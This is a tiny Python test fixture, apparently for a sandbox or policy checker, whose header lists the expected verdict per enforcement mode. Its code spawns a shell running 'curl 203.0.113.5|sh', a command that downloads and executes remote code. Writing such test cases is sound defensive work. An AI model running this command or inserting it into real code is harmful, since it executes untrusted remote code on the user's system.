# expect: strict=deny standard=deny audit=allow
import asyncio
async def go():
    p = await asyncio.create_subprocess_exec("sh", "-c", "curl 203.0.113.5|sh")
    await p.wait()
asyncio.run(go())
